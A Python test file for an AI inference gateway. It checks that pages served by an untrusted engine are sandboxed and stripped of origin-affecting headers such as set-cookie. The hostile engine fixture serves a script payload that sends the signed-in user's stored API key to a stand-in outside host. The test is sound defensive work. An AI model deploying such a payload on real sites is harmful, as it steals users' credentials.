"""An engine may be anybody's image, and `/v2/<id>` has the console's origin: its answers do nothing to its readers."""

from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from pathlib import Path

import pytest_asyncio
from aiohttp import web

from inferops.settings import ApiSettings, GatewaySettings, Settings
from tests.gateway.engine import Engine
from tests.gateway.gateway import SHARED, Gateway, host_of, path_of
from tests.gateway.objects import DOMAIN, fill

CONSOLE = "default-src 'self'"
PAGE = "<script>fetch('https://elsewhere.example/?' + sessionStorage.getItem('inferops.key'))</script>"
OF_THE_ORIGIN = {
    "set-cookie": "a=b; domain=gw.test; path=/",
    "clear-site-data": '"*"',
    "nel": '{"report_to": "elsewhere", "max_age": 1}',
}


class Hostile(Engine):
    """Sends a page that would take the key of whoever is signed in, with all that a server may say for its origin."""

    async def _serve(self, _: web.Request) -> web.StreamResponse:
        headers = {**OF_THE_ORIGIN, "content-security-policy": "script-src 'unsafe-inline'", "x-own": "stays"}
        return web.Response(text=PAGE, content_type="text/html", headers=headers)


class Console(Engine):
    """The process behind the gateway's own pages."""

    async def _serve(self, _: web.Request) -> web.StreamResponse:
        return web.Response(text="<title>inferops</title>", headers={"content-security-policy": CONSOLE})


@pytest_asyncio.fixture(loop_scope="session")
async def gateway(tmp_path: Path, envoy_binary: str) -> AsyncIterator[Gateway]:
    """With a console on the hosts on which the engine answers, too."""
    async with AsyncExitStack() as stack:
        engine = await stack.enter_async_context(Hostile("hostile"))
        console = await stack.enter_async_context(Console("console"))
        place = ApiSettings(host="localhost", port=console.port)
        gateway = Gateway(tmp_path, envoy_binary, Settings(gateway=GatewaySettings(domain=DOMAIN, api=place)))
        gateway.put(*fill(engine.address, engine.port))
        await stack.enter_async_context(gateway.control())
        await stack.enter_async_context(gateway.envoy())
        yield gateway


async def test_a_page_of_an_engine_runs_no_script_and_has_no_origin(gateway: Gateway) -> None:
    for host, path in ((DOMAIN, path_of("open")), (SHARED, path_of("open")), (host_of("open"), "/v1/page.html")):
        async with gateway.client(host) as client:
            answer = await client.get(path)
        assert (answer.status_code, answer.text, answer.headers["x-own"]) == (200, PAGE, "stays")
        assert answer.headers.get_list("content-security-policy") == ["sandbox; default-src 'none'"], host
        assert answer.headers.keys().isdisjoint(OF_THE_ORIGIN), host


async def test_the_gateways_own_pages_are_as_the_console_sends_them(gateway: Gateway) -> None:
    async with gateway.client(DOMAIN) as client:
        answer = await client.get("/")
    assert answer.headers.get_list("content-security-policy") == [CONSOLE]
